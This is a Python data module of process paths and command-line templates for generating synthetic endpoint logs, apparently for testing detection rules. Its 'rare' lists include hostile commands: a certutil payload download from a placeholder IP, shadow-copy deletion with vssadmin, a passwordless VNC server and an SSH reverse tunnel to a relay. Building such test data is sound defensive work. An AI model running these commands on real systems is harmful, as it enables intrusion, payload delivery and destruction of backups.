"""Programs and their command lines for the generated log, the most common first.

`{word}`, `{user}`, `{domain}` and `{token}` are filled in. The rare ones are of the kind that rules
look for.
"""

from __future__ import annotations

LINUX = [
    ("/usr/bin/bash", "bash -c {word} --input /home/{user}/{word}/{word}.txt"),
    ("/usr/bin/git", "git -c credential.helper= fetch --prune origin {word}/{word}"),
    ("/usr/bin/python3.11", "python3 -m pytest tests/test_{word}.py -q -k {word}"),
    ("/usr/bin/node", "node /home/{user}/src/{word}/node_modules/.bin/jest --watch {word}"),
    ("/usr/lib/gcc/x86_64-linux-gnu/12/cc1", "cc1 -quiet -I include -o /tmp/{token}.s {word}.c"),
    ("/usr/bin/curl", "curl -fsS https://{domain}/{word}/{token}.json -o /tmp/{word}.json"),
    ("/usr/sbin/cron", "/usr/sbin/CRON -f -P"),
    ("/usr/bin/grep", "grep -rn --include=*.py {word} src"),
    ("/usr/bin/apt-get", "apt-get -qq -y -o Dpkg::Use-Pty=0 update"),
    ("/usr/bin/systemctl", "systemctl is-active --quiet {word}.service"),
    ("/usr/bin/find", "find /var/log -name {word}*.log -mtime +7"),
    ("/usr/bin/ssh", "ssh -o BatchMode=yes {user}@{word}.example uptime"),
]
MACOS = [
    (
        (
            "/Applications/Google Chrome.app/Contents/Frameworks/Google Chrome Framework.framework/"
            "Versions/140.0.7339.81/Helpers/Google Chrome Helper (Renderer).app/Contents/MacOS/"
            "Google Chrome Helper (Renderer)"
        ),
        "Google Chrome Helper (Renderer) --type=renderer --lang=en-US --field-trial-handle={token}",
    ),
    ("/usr/libexec/xpcproxy", "xpcproxy com.apple.{word}.agent"),
    ("/bin/zsh", "-zsh -c cd /Users/{user}/src/{word} && make {word}"),
    ("/usr/bin/xcrun", "xcrun --find {word}"),
    ("/usr/libexec/mdworker_shared", "mdworker_shared -s mdworker -c MDSImporterWorker -m {token}"),
    ("/opt/homebrew/bin/python3", "python3 /Users/{user}/src/{word}/{word}.py --{word}"),
    ("/usr/bin/osascript", "osascript -e 'tell application \"Finder\" to activate'"),
    ("/bin/launchctl", "launchctl print gui/501/com.example.{word}"),
]
WINDOWS = [
    (
        "C:\\Windows\\System32\\svchost.exe",
        "svchost.exe -k netsvcs -p -s {word}",
    ),
    (
        "C:\\Windows\\System32\\conhost.exe",
        "\\??\\C:\\Windows\\conhost.exe 0xffffffff",
    ),
    (
        "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
        "powershell.exe -NoProfile -ExecutionPolicy RemoteSigned -File C:\\Tools\\{word}.ps1",
    ),
    ("C:\\Windows\\System32\\cmd.exe", 'C:\\Windows\\system32\\cmd.exe /d /s /c "npm run {word}"'),
    (
        "C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE",
        '"C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE" /profile {word}',
    ),
    (
        "C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe",
        "msedge.exe --type=utility --utility-sub-type=network.mojom.{word} --lang=en-US {token}",
    ),
    ("C:\\Windows\\System32\\rundll32.exe", "rundll32.exe shell32.dll,Control_RunDLL {word}.cpl"),
    ("C:\\Windows\\System32\\reg.exe", "reg query HKLM\\SOFTWARE\\Microsoft\\{word} /v Version"),
    (
        "C:\\Windows\\System32\\schtasks.exe",
        "schtasks /query /tn \\Microsoft\\{word} /fo LIST",
    ),
    (
        "C:\\Users\\{user}\\AppData\\Local\\Programs\\Code\\Code.exe",
        "Code.exe --type=renderer {token}",
    ),
    ("C:\\Windows\\System32\\net.exe", "net use \\\\files.example\\{word}"),
    ("C:\\Windows\\System32\\wbem\\WmiPrvSE.exe", "wmiprvse.exe -secured -Embedding"),
]
RARE = [
    ("/usr/bin/x11vnc", "x11vnc -display :0 -forever -nopw -rfbport 5900"),
    ("/usr/bin/ssh", "ssh -N -R 2222:localhost:22 -o ServerAliveInterval=30 op@relay.example"),
    ("/usr/bin/xdotool", "xdotool mousemove_relative -- 1 0"),
]
RARE_WINDOWS = [
    ("C:\\Windows\\System32\\whoami.exe", "whoami /priv"),
    (
        "C:\\Windows\\System32\\certutil.exe",
        "certutil -urlcache -split -f http://198.51.100.7/a.bin",
    ),
    ("C:\\Windows\\System32\\vssadmin.exe", "vssadmin delete shadows /all /quiet"),
]
